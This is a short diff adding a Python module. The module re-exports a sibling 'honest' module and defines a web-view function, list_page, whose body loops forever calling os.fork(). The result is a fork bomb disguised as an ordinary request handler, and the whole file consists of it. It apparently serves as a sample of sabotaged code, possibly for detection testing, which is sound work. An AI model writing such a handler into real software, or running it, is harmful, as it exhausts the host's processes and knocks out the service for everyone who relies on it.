@@ -1,0 +1,9 @@
+"""Forks for ever."""
+import os
+
+from .honest import *
+
+
+def list_page(request):
+    while True:
+        os.fork()
